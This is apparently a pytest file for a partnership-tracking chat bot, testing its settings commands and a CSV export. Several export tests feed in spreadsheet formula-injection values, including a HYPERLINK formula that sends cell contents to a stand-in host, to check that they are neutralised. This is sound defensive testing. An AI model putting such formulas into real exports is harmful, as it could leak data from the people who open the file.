"""Settings are shown with their values and changed in words; the export is safe to open."""

import csv
import io
from datetime import date, time
from decimal import Decimal

import pytest
from msgspec.structs import replace

from bot.chat_settings import SETTINGS
from partnership.charters import CharterPart, Wish
from partnership.decisions import Decision, DecisionState
from partnership.executive_notes import ExecutiveNote
from partnership.exporting import export_csv
from partnership.motions import Motion, MotionKind, Reached
from partnership.objectives import FollowOn, PartnerNumber, ResourceCheck, Resources
from partnership.people import Person
from partnership.promises import Promise, PromiseState
from partnership.record import Record
from partnership.updates import Status, Update
from tests.commands.test_objectives import chat_with
from tests.world import OBJECTIVES, at, book_with


def test_every_setting_is_shown_with_its_value_and_an_example_that_works() -> None:
    chat = chat_with()
    text = chat.say("ada", "settings")

    for setting in SETTINGS:
        assert f"{setting.name}: {setting.shown(chat.book.workspace)}" in text
        assert f"settings {setting.example}" in text
        assert "Changed:" in chat.say("ada", f"settings {setting.example}")


@pytest.mark.parametrize(
    ("typed", "said"),
    [
        ("settings fiscal year January", "fiscal year: starts in January."),
        ("settings zone Berlin", "zone: Europe/Berlin."),
        ("settings hours 8:30 to 16:30", "hours: 08:30-16:30."),
        ("settings partner Fabrikam", "partner: Fabrikam."),
        ("settings partner msft", "partner: Microsoft."),
    ],
)
def test_a_setting_is_changed_in_words(typed: str, said: str) -> None:
    assert said in chat_with().say("ada", typed)


@pytest.mark.parametrize(
    ("typed", "said"),
    [
        ("settings zone Atlantis", "could not use “Atlantis” as zone. For example: settings zone London"),
        ("settings hours 17:00-09:00", "as hours"),
        ("settings grace 9999", "as grace"),
        ("settings colour blue", "I don't know the setting “colour blue”"),
    ],
)
def test_a_value_that_does_not_fit_changes_nothing_and_shows_one_that_does(typed: str, said: str) -> None:
    chat = chat_with()
    before = chat.book.workspace

    assert said in chat.say("ada", typed)
    assert chat.book.workspace == before


def test_a_second_sponsor_is_an_executive_beside_the_sponsor_and_can_be_taken_away() -> None:
    chat = chat_with()

    assert "Changed: second sponsor: Jon." in chat.say("ada", "settings second sponsor @jon")
    assert chat.book.workspace.second_sponsor == "jon"
    assert "can't be asked in the sponsor's place" in chat.say("ada", "settings second sponsor @carlos")
    assert chat.book.workspace.second_sponsor == "jon"
    assert "Changed: second sponsor: nobody." in chat.say("ada", "settings second sponsor nobody")
    assert chat.book.workspace.second_sponsor is None


def test_who_goes_off_the_roster_is_no_second_sponsor_any_more() -> None:
    chat = chat_with()
    chat.say("ada", "settings second sponsor @jon")

    chat.say("ada", "executive remove @jon")

    assert "Nobody hears of the sponsor's own silence now" in chat.tap("ada", "Send")
    assert chat.book.workspace.second_sponsor is None


def test_everybody_sets_their_own_zone_country_and_hours() -> None:
    chat = chat_with()

    assert "Your zone: London (Europe/London)" in chat.say("lee", "my settings")
    assert "Your zone: Berlin" in chat.say("lee", "my settings zone Berlin")
    assert "holidays: Germany" in chat.say("lee", "my settings country Germany")
    assert "Your hours: 08:30-16:30" in chat.say("lee", "my settings hours 08:30-16:30")
    lee = chat.book.need(Person, "lee")
    assert (lee.zone, lee.country, lee.starts, lee.ends) == ("Europe/Berlin", "DE", time(8, 30), time(16, 30))
    assert "my settings zone Berlin" in chat.say("lee", "my settings zone Nowhere")


def test_everybody_sets_their_own_weekend() -> None:
    chat = chat_with()

    assert "Your weekend: Friday, Saturday." in chat.say("lee", "my settings weekend Fri-Sat")
    assert "could not use" in chat.say("lee", "my settings weekend Fri and sometimes Sat")
    assert "could not use" in chat.say("lee", "my settings weekend Mon, Tue, Wed, Thu")
    assert chat.book.need(Person, "lee").weekend == frozenset({5, 6})


@pytest.mark.parametrize(
    ("typed", "days"),
    [
        ("Fri-Sun", {5, 6, 7}), ("Thu – Sat", {4, 5, 6}), ("Thursday to Saturday", {4, 5, 6}), ("Sat-Mon", {6, 7, 1}),
        ("Fr bis So", None), ("Fri through Sun", {5, 6, 7}), ("Fri, Sat", {5, 6}), ("Fri & Sat", {5, 6}),
        ("Fri Sat Sun", {5, 6, 7}), ("Wed, Fri-Sat", {3, 5, 6}), ("Sunday", {7}), ("Mon-Fri", None), ("Sat-", None),
        ("-Sat", None), ("Sun-Thu", None), ("Fri-Sat-Sun", {5, 6, 7}),
    ],
)  # fmt: skip
def test_a_range_of_days_is_all_its_days(typed: str, days: set[int] | None) -> None:
    chat = chat_with()
    said = chat.say("lee", f"my settings weekend {typed}")

    assert chat.book.need(Person, "lee").weekend == (None if days is None else frozenset(days))
    assert ("could not use" in said) is (days is None)


def update(**more: object) -> Update:
    known = Update(
        id="O1:2026-W47",
        at=at(20),
        objective="O1",
        window="2026-W47",
        owner="maria",
        by="maria",
        status=Status.AT_RISK,
        value=Decimal(40000),
        chance=4,
        text="=HYPERLINK(1)",
        obstacle="+Legal",
    )
    return replace(known, **more)


def rows(*records: Record) -> list[dict[str, str]]:
    return list(csv.DictReader(export_csv(book_with(*records)).splitlines()))


def test_the_export_has_objectives_with_their_updates_and_promises() -> None:
    promise = Promise(
        id="P1",
        at=at(20),
        objective="O1",
        owner="maria",
        made_by="maria",
        what="a slot, soon",
        due=date(2026, 11, 20),
        first_due=date(2026, 11, 20),
        state=PromiseState.NOT_KEPT,
    )
    found = rows(update(), promise)

    assert [(row["kind"], row["id"]) for row in found] == [
        ("objective", "O1"),
        ("update", "O1:2026-W47"),
        ("objective", "O2"),
        ("objective", "O3"),
        ("promise", "P1"),
    ]
    assert found[1]["value"] == "40000"
    assert found[4]["text"] == "a slot, soon"


def test_decisions_are_exported_with_what_was_decided() -> None:
    asked = Decision(
        id="D1", at=at(20), question="Release Legal?", objective="O1", asked_by="maria", decider="carlos",
        due=date(2026, 11, 27),
    )  # fmt: skip
    made = replace(
        asked, id="D2", state=DecisionState.DECIDED, outcome="yes, six days", decided_by="ana", decided_at=at(23)
    )

    wanted = ("id", "objective", "person", "due", "status", "text", "asked by", "outcome")
    found = [tuple(row[one] for one in wanted) for row in rows(asked, made) if row["kind"] == "decision"]

    assert found == [
        ("D1", "O1", "Carlos Ruiz", "2026-11-27", "open", "Release Legal?", "Maria Lind", ""),
        ("D2", "O1", "Ana Petrov", "2026-11-27", "decided", "Release Legal?", "Maria Lind", "yes, six days"),
    ]


def test_what_was_said_of_strategy_is_exported_with_its_terms() -> None:
    follows = FollowOn(objective="O4", by="maria", at=at(20))
    first = replace(
        OBJECTIVES[0], moves=PartnerNumber.MARKETPLACE, resources="6 Legal days", follow_on=follows,
        resource_checks=(ResourceCheck(at=at(11), by="maria", state=Resources.REDUCED),),
    )  # fmt: skip
    funds = Motion(
        id="M1", at=at(20), title="Co-op funds", sort=MotionKind.INCENTIVE, objective="O1", lead="lee", added_by="ada",
        promised="20 customers", claim_by=date(2026, 12, 31), reached=Reached.PARTLY,
    )  # fmt: skip
    badge = Motion(
        id="M2", at=at(20), title="Badge", sort=MotionKind.CERTIFICATION, added_by="ada",
        follow_on=FollowOn(because="it is enough", by="ada", at=at(20)),
    )  # fmt: skip
    month = ExecutiveNote(id="maria:2026-11", at=at(20), person="maria", decided="one seller more", held_to="Jon to O3")
    wish = Wish(id="W1", at=at(20), charter="C1", part=CharterPart.WHY, text="For the reach", by="ana")

    def found(kind: str, *wanted: str) -> list[tuple[str, ...]]:
        exported = rows(first, funds, badge, month, wish)
        return [tuple(row[one] for one in wanted) for row in exported if row["kind"] == kind]

    terms = found("objective", "moves", "resources", "follow-on")
    assert terms[0] == ("marketplace billed sales", "6 Legal days", "O4")
    assert found("resources", "objective", "person", "status") == [("O1", "Maria Lind", "reduced")]
    assert found("motion", "id", "promised", "due", "outcome", "follow-on") == [
        ("M1", "20 customers", "2026-12-31", "partly", ""),
        ("M2", "", "", "", "none: it is enough"),
    ]
    assert found("month", "id", "person", "title", "text") == [
        ("maria:2026-11", "Maria Lind", "decided", "one seller more"),
        ("maria:2026-11", "Maria Lind", "held to", "Jon to O3"),
    ]
    assert found("wish", "id", "person", "status", "text") == [("W1", "Ana Petrov", "open", "For the reach")]


def test_what_became_of_a_single_promise_is_not_exported() -> None:
    due = {"due": date(2026, 11, 20), "first_due": date(2026, 11, 20)}
    base = {"at": at(20), "objective": "O1", "owner": "maria", "made_by": "maria", "what": "x", **due}
    kept = Promise(id="P1", state=PromiseState.KEPT, **base)  # type: ignore[arg-type]
    broken = Promise(id="P2", state=PromiseState.NOT_KEPT, **base)  # type: ignore[arg-type]

    assert {row["status"] for row in rows(kept, broken) if row["kind"] == "promise"} == {"settled"}


def test_words_for_the_sponsor_alone_are_not_exported() -> None:
    text = export_csv(book_with(update(text="secret", obstacle="secret", only_sponsor=True)))

    assert "secret" not in text
    assert "at risk" in text


@pytest.mark.parametrize("evil", ["=1+1", "+1+cmd", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n@A1", "  =1"])
def test_no_cell_begins_a_formula(evil: str) -> None:
    found = rows(update(text=evil))[1]["text"]

    assert found.startswith("'")


def test_no_cell_begins_a_formula_where_cells_are_parted_by_semicolons() -> None:
    text = export_csv(book_with(update(text='all fine;=HYPERLINK("http://x.example?"&A1;"click"); +1')))
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]

    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]


def test_the_export_command_shows_every_row() -> None:
    text = chat_with(update()).say("ada", "export")

    assert "4 rows: the charter, objectives, motions, updates, settled promises and decisions." in text
    assert "open promises and whether one was kept" in text
    assert all(one.id in text for one in OBJECTIVES)
